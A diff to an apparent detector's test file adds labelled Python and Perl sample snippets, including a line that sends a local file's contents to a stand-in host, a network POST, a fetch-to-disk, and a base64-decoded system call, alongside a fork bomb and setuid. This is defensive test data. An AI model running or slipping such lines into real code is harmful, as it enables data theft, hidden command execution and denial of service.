@@ -41,7 +41,11 @@ def test_commands_started(language: str, code: str, commands: tuple[str, ...]) -
         ("python", "[os.fork() for _ in iter(int, 1)]", "fork-bomb"),
         ("python", "os.setuid(0)", "code-setuid"),
         ("python", "ctypes.CDLL('x')", "loads-library"),
-        ("python", "requests.get('http://h')", "code-network"),
+        ("python", "requests.get('http://h')", "code-fetches"),
+        ("python", "requests.post('http://h', data=x)", "code-network"),
+        ("python", "urlopen('http://h/?' + open('notes').read())", "code-network"),
+        ("python", "open('x', 'wb').write(urlopen('http://h').read())", "code-fetches"),
+        ("perl", "system(decode_base64('aWQ='))", "executes-decoded"),
         ("python", "subprocess.Popen(x)", "code-spawns"),
     ],
 )
